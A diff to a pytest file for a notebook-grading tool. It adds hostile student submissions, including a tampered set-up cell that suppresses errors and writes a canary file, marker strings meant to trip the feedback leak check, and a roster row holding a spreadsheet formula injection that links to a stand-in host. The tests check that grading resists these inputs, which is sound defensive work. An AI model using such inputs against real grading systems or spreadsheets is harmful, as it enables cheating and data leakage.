@@ -64,6 +64,7 @@ PARTIAL_SCORE = 1 + 0 + 2 + 2.0 + 0.5 + 2 + 2 + 0 + 1.0
 ON_ROSTER = [
     "xss",
     "deleted",
+    "setupcell",
     "asserttrue",
     "stripped",
     "badjson",
@@ -199,6 +200,19 @@ def cli(course, *args, ok=True, env=None):
     return proc
 
 
+def released_course(tmp, roster_rows: str):
+    """Quiz 01 in a new course under ``tmp`` with the roster rows imported and released:
+    (course, blank release, source notebook, release with the model answers typed in)."""
+    course = make_course(tmp, [QUIZ])
+    roster = tmp / "roster.csv"
+    roster.write_text("id,first_name,last_name,email\n" + roster_rows)
+    cli(course, "students", str(roster))
+    cli(course, "release", QUIZ, "--no-exchange")
+    blank = read_nb(course / "release" / QUIZ / f"{QUIZ}.ipynb")
+    source_nb = read_nb(course / "source" / QUIZ / f"{QUIZ}.ipynb")
+    return course, blank, source_nb, with_answers(blank, key_answers(source_nb))
+
+
 @pytest.fixture(scope="module")
 def batch(tmp_path_factory):
     import psutil
@@ -209,22 +223,15 @@ def batch(tmp_path_factory):
         exchange = tmp / "exchange"
         (exchange / "venous-course" / "outbound" / QUIZ).mkdir(parents=True)
         mp.setenv("VENOUS_EXCHANGE_ROOT", str(exchange))
-        course = make_course(tmp, [QUIZ])
         server, hits, stop = _canary_server()
         canary = {"port": str(server.getsockname()[1]), "trace": str(tmp / "trace")}
         attacks = _attacks(canary)
-        roster = tmp / "roster.csv"
-        roster.write_text(
-            "id,first_name,last_name,email\n"
+        course, blank, source_nb, key = released_course(
+            tmp,
             'good,"=HYPERLINK(""http://x.example/""&A1)",Good,g@example.org\n'
             "partial,+Part,@ial,p@example.org\n"
-            + "".join(f"{s},S,{s},{s}@example.org\n" for s in sorted(attacks) + ON_ROSTER)
+            + "".join(f"{s},S,{s},{s}@example.org\n" for s in sorted(attacks) + ON_ROSTER),
         )
-        cli(course, "students", str(roster))
-        cli(course, "release", QUIZ, "--no-exchange")
-        blank = read_nb(course / "release" / QUIZ / f"{QUIZ}.ipynb")
-        source_nb = read_nb(course / "source" / QUIZ / f"{QUIZ}.ipynb")
-        key = with_answers(blank, key_answers(source_nb))
         good = copy.deepcopy(key)
         cell_by_id(good, "q10-teachback").source = "A high reading can mean stiff arteries ..."
         submit_file(course, "good", QUIZ, good)
@@ -243,6 +250,13 @@ def batch(tmp_path_factory):
         deleted = copy.deepcopy(key)
         deleted.cells.remove(cell_by_id(deleted, "q2-test"))
         submit_file(course, "deleted", QUIZ, deleted)
+        # the quiz's set-up cell (form checks in words) rewritten to change answers or checks
+        setup = copy.deepcopy(key)
+        cell_by_id(setup, "form-checks").source = (
+            "get_ipython().set_custom_exc((Exception,), lambda *a: None)\n"
+            f"open({canary['trace']!r} + '-setup', 'w').write('x')\nq1 = 'A'\nq5 = {{'A'}}"
+        )
+        submit_file(course, "setupcell", QUIZ, setup)
         cheat = copy.deepcopy(blank)
         for cell in cheat.cells:
             if cell.metadata.get("nbgrader", {}).get("grade_id", "").endswith("-test"):
@@ -307,6 +321,7 @@ def needs_manual(course, student) -> dict[str, bool]:
 def test_every_submission_is_reported(batch):
     rows, out = batch["rows"], batch["out"]
     expected = {"good", "partial", "xss", "deleted", "asserttrue", "stripped", "badjson"}
+    expected |= {"setupcell"}
     expected |= {"copiedkey", "missing", "linkdir", "linkfile", "huge"} | set(batch["attacks"])
     assert set(rows) == expected
     assert f"[{len(expected)}/{len(expected)}]" in out
@@ -402,6 +417,19 @@ def test_tampered_test_cells_are_restored_and_flagged(batch):
     assert any("solution markers" in n for n in rows["copiedkey"].notes)
 
 
+def test_the_set_up_cell_cannot_change_grading(batch):
+    """The locked form-checks cell only changes how the student's own kernel shows errors:
+    grading never runs it, restores it from the gradebook and notes it for the instructor."""
+    course, rows = batch["course"], batch["rows"]
+    assert auto_score(course, "setupcell") == FULL_AUTO  # the answers, not the cell, score
+    assert rows["setupcell"].status == "graded"  # its empty teach-back scores 0 by itself
+    notes = rows["setupcell"].notes
+    assert any("read-only cell altered" in n and "form-checks" in n for n in notes), notes
+    graded = read_nb(course / "autograded" / "setupcell" / QUIZ / f"{QUIZ}.ipynb")
+    released = read_nb(course / "release" / QUIZ / f"{QUIZ}.ipynb")
+    assert cell_by_id(graded, "form-checks").source == cell_by_id(released, "form-checks").source
+
+
 def test_broken_and_unsafe_files_are_failures_not_zeros(batch):
     rows = batch["rows"]
     assert rows["badjson"].status == "failed" and "invalid notebook" in rows["badjson"].reason
@@ -484,6 +512,199 @@ def test_formgrader_renders_student_html_as_text(batch, monkeypatch):
     shown = render(answer)
     assert "<script>" not in shown and "<img" not in shown and 'href="javascript' not in shown
     assert "&lt;script&gt;" in shown
+
+
+# ---------------------------------------------------------------------------- feedback (issue 30)
+
+#: A teach-back that quotes every marker the leak check looks for, and a line of a public check.
+MARKER_TEACHBACK = (
+    "My answer.\n# RATIONALE: the arteries are stiff\n### END HIDDEN TESTS\n### BEGIN SOLUTION\n"
+    'assert q1 is not None, "Q1 is still None: set it to one of the letters A, B, C, D, in '
+    'quotes."\n<!--/student--> BEGIN RUBRIC'
+)
+
+
+@pytest.fixture(scope="module")
+def classroom(tmp_path_factory):
+    """One honest student's feedback alone, then with a hostile classmate and a student whose
+    page the instructor's own comment makes leak, all through the CLI and the exchange."""
+    with pytest.MonkeyPatch.context() as mp:
+        clean_env(mp)
+        tmp = tmp_path_factory.mktemp("classroom")
+        exchange = tmp / "exchange"
+        exchange.mkdir()
+        mp.setenv("VENOUS_EXCHANGE_ROOT", str(exchange))
+        course, blank, source_nb, key = released_course(
+            tmp,
+            "good,Good,Student,g@example.org\n"
+            "hostile,Hostile,Student,h@example.org\n"
+            "commented,Commented,Student,c@example.org\n",
+        )
+
+        def hand_in(student, nb):
+            submit_file(course, student, QUIZ, nb)
+            folder = course / "submitted" / student / QUIZ
+            (folder / "timestamp.txt").write_text("2026-01-05 10:00:00.000000 UTC")
+            (folder / "submission_secret.txt").write_text(f"secret-of-{student}")
+
+        good = copy.deepcopy(key)
+        cell_by_id(good, "q10-teachback").source = "A high reading can mean stiff arteries."
+        hand_in("good", good)
+        cli(course, "autograde", QUIZ)
+        cli(course, "feedback", QUIZ)
+        page = course / "feedback" / "good" / QUIZ / f"{QUIZ}.html"
+        alone = page.read_text(encoding="utf-8")
+
+        hostile = with_answers(
+            blank,
+            {
+                "q1": 'q1 = "C"  # RATIONALE: END HIDDEN TESTS',
+                "q2": "q2 = D  # ### BEGIN SOLUTION",
+                "q5": '_key = {"B", "C", "E", "F"}\nq5 = {"B"}',
+            },
+        )
+        cell_by_id(hostile, "q10-teachback").source = MARKER_TEACHBACK
+        hand_in("hostile", hostile)
+        hand_in("commented", with_answers(blank, {"q1": 'q1 = "A"'}))
+        cli(course, "autograde", QUIZ, "--student", "hostile", "--student", "commented")
+        hidden_line = next(s for s in hidden_regions(source_nb) if s.startswith("_key = {"))
+        cli(
+            course, "grade", QUIZ, "--student", "commented", "--item", "q10-teachback",
+            "--score", "0", "--comment", f"The key was {hidden_line}",
+        )  # fmt: skip
+        # an autograded folder the gradebook does not know: nbgrader fails on it alone
+        shutil.copytree(course / "autograded" / "good", course / "autograded" / "ghost")
+        fed = cli(course, "feedback", QUIZ)
+        returned = cli(course, "return", QUIZ)
+        yield {
+            "course": course,
+            "alone": alone,
+            "page": page,
+            "fed": fed,
+            "returned": returned,
+            "exchange": exchange,
+            "hidden_line": hidden_line,
+        }
+
+
+def test_hostile_teachback_no_longer_blocks_feedback_for_the_class(classroom):
+    course, fed = classroom["course"], classroom["fed"]
+    assert "Feedback for quiz-01-understanding: 2 file(s), checked for leaks." in fed.stdout
+    hostile = (course / "feedback" / "hostile" / QUIZ / f"{QUIZ}.html").read_text("utf-8")
+    # the student's own text is shown to them, escaped, markers and all
+    assert "# RATIONALE: the arteries are stiff" in hostile
+    assert "&lt;!--/student--&gt; BEGIN RUBRIC" in hostile
+    assert "q2 = D  # ### BEGIN SOLUTION" in hostile
+    assert "Traceback" not in fed.stderr
+
+
+def test_honest_classmate_feedback_and_return_are_unchanged(classroom):
+    course = classroom["course"]
+    assert classroom["page"].read_text(encoding="utf-8") == classroom["alone"]
+    released = classroom["exchange"] / "venous-course" / "feedback"
+    from nbgrader.utils import notebook_hash
+
+    good = released / f"{notebook_hash(secret='secret-of-good', notebook_id=QUIZ)}.html"
+    assert good.read_text(encoding="utf-8") == classroom["alone"]
+    hostile = released / f"{notebook_hash(secret='secret-of-hostile', notebook_id=QUIZ)}.html"
+    assert hostile.is_file()
+    assert len(list(released.glob("*.html"))) == 2  # never the refused page
+    assert "Returned feedback for quiz-01-understanding: 2 file(s)." in classroom["returned"].stdout
+    assert (course / "feedback" / "good" / QUIZ / f"{QUIZ}.html").is_file()
+
+
+def test_a_leaking_page_is_refused_for_that_student_only_and_named(classroom):
+    course, hidden_line = classroom["course"], classroom["hidden_line"]
+    for step in ("fed", "returned"):
+        err = classroom[step].stderr
+        assert f"warning: no feedback returned to commented for {QUIZ}: the page would show" in err
+        assert hidden_line[:40] in err and "good" not in err and "hostile" not in err
+        assert f"no feedback returned to ghost for {QUIZ}: nbgrader could not" in err
+    assert not (course / "feedback" / "commented" / QUIZ / f"{QUIZ}.html").exists()
+    kept = course / "reports" / f"{QUIZ}-feedback-refused" / "commented" / f"{QUIZ}.html"
+    assert hidden_line in html.unescape(kept.read_text(encoding="utf-8"))
+    refused = json.loads(workflow.refused_path(course, QUIZ).read_text(encoding="utf-8"))
+    assert sorted(refused) == ["commented", "ghost"]
+    assert refused["ghost"].startswith("nbgrader could not build the page")
+
+
+def test_feedback_leak_check_judges_only_course_text():
+    """Marker and secret lines in the student's regions pass; the same outside them fail."""
+    from venous_course_tools.instructor.feedback_page import student_text
+
+    secret = '_key = {"B", "C", "E", "F"}'
+    page = "<p>Rationale text.</p>" + student_text(MARKER_TEACHBACK + "\n" + secret)
+    assert workflow.page_leaks(page, [secret]) == []
+    assert workflow.page_leaks(page + "<p>END SOLUTION</p>", [secret]) == ["END SOLUTION"]
+    assert workflow.page_leaks(page + html.escape(secret), [secret]) == [secret]
+
+
+@pytest.fixture(scope="module")
+def browser():
+    """Debian's Chromium through Playwright, or a skip (a failure with REQUIRE_BROWSER=1)."""
+    from tests.conftest import chromium_or_skip
+
+    yield from chromium_or_skip()
+
+
+def _open_returned(browser, path):
+    """A returned page opened from its file at 390 px, with every request it makes."""
+    context = browser.new_context(viewport={"width": 390, "height": 844})
+    page = context.new_page()
+    requests, errors = [], []
+    page.on("request", lambda r: requests.append(r.url))
+    page.on("pageerror", lambda e: errors.append(str(e)))
+    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
+    page.goto(path.as_uri())
+    return context, page, requests, errors
+
+
+def test_returned_feedback_in_chromium_at_390_px(classroom, browser):
+    """Issue 26 point 4 in a real browser: every part per item, readable at 390 px without
+    sideways scrolling, printable, nothing loaded from anywhere, no serious axe violation."""
+    from axe_playwright_python.sync_playwright import Axe
+    from nbgrader.utils import notebook_hash
+
+    released = classroom["exchange"] / "venous-course" / "feedback"
+    good = released / f"{notebook_hash(secret='secret-of-good', notebook_id=QUIZ)}.html"
+    context, page, requests, errors = _open_returned(browser, good)
+    try:
+        assert [u for u in requests if not u.startswith(("file:", "data:", "about:"))] == []
+        assert errors == []
+        assert page.evaluate("document.documentElement.scrollWidth") <= 390
+        sections = page.locator("section.item")
+        assert sections.count() == len(POINTS) + 1  # nine autograded items and the teach-back
+        for i in range(sections.count()):
+            section = sections.nth(i)
+            parts = section.locator("h3").all_inner_texts()
+            assert parts[:3] == ["The question", "Your answer", "How it is scored"], parts
+            assert "Review" in parts and section.locator("ul.review a").count() >= 1
+            href = section.locator("ul.review a").first.get_attribute("href")
+            assert re.fullmatch(r"\.\./\.\./\.\./\d\d-[a-z0-9-]+\.ipynb", href), href
+            points = section.locator("p.points").inner_text()
+            assert re.fullmatch(r"[\d.]+ of [\d.]+ points?|Your instructor .*", points), points
+            if i < len(POINTS):
+                assert "Rationale" in parts
+                assert points.startswith(f"{POINTS[f'q{i + 1}']:g} of "), points
+        first = sections.nth(0).inner_text()
+        assert "C. Weak vein valves let blood pool in the legs" in first  # the chosen option
+        assert "Test cell" not in page.content() and "assert " not in page.content()
+        violations = Axe().run(page).response["violations"]
+        serious = [v["id"] for v in violations if v.get("impact") in {"serious", "critical"}]
+        assert serious == []
+        page.emulate_media(media="print")
+        assert page.locator("nav").evaluate("n => getComputedStyle(n).display") == "none"
+        assert len(page.pdf(width="210mm", height="297mm")) > 10_000
+    finally:
+        context.close()
+    hostile = released / f"{notebook_hash(secret='secret-of-hostile', notebook_id=QUIZ)}.html"
+    context, page, requests, errors = _open_returned(browser, hostile)
+    try:
+        written = page.locator("section#q10 .written").inner_text()
+        assert "<!--/student--> BEGIN RUBRIC" in written  # shown as the text it is
+        assert page.evaluate("document.scripts.length") == 0 and errors == []
+    finally:
+        context.close()
 
 
 # ---------------------------------------------------------------------------- issue 30
@@ -828,7 +1049,7 @@ def test_an_honest_student_is_untouched_by_hostile_classmates(exchange_class, ho
     assert _lms_row(hostile, HONEST) == _lms_row(alone, HONEST)
     hostile_page = _feedback_text(exchange_class["tmp"] / "home-amy")
     assert hostile_page == _feedback_text(honest_alone["tmp"] / "home-amy")
-    assert TEACH_BACK in hostile_page and "Rationale." in hostile_page
+    assert TEACH_BACK in hostile_page and "Rationale" in hostile_page
 
 
 def test_grading_refuses_an_optimising_python(batch):
